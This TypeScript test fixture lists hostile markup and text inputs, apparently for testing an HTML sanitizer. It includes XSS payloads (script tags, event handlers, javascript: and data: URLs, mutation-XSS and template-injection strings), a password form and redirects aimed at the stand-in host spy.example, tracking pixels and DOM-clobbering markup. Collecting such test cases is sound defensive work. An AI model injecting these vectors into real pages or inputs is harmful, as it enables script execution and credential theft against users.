/** Markup that would run, load or mislead where it is not cleaned. */
export const hostileMarkup: readonly string[] = [
  '<p>harmless</p>',
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<img src="https://spy.example/pixel.png" alt="a pixel">',
  '<svg onload="window.hit = 1"><style><img src=x onerror="window.hit = 1"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<a href="javascript:window.hit=1">script</a>',
  '<a href="java\nscript:window.hit=1">broken script</a>',
  '<a href="data:text/html,<script>window.hit=1</script>">data</a>',
  '<a href="//spy.example/">elsewhere</a>',
  '<a href="https://northwind.example" target="_top" onclick="window.hit = 1">link</a>',
  '<form action="https://spy.example"><input name="password"><button>Sign in</button></form>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<base href="https://spy.example/"><meta http-equiv="refresh" content="0;url=https://spy.example">',
  '<div style="position:fixed;inset:0" id="root" name="location" class="fixed">over everything</div>',
  '<object data="javascript:window.hit=1"></object><embed src="javascript:window.hit=1">',
];

/** Texts that are markup, templates or addresses where they are not taken for text. */
export const hostileTexts: readonly string[] = [
  '"><script>window.hit = 1</script>',
  '\' onmouseover="window.hit = 1" x=\'',
  '{{constructor.constructor("window.hit = 1")()}}',
  '${window.hit = 1}',
  'javascript:window.hit=1',
  'java\tscript:window.hit=1',
  'data:text/html,<script>window.hit=1</script>',
  '//spy.example/',
  '</title></textarea></style><svg/onload=window.hit=1>',
];
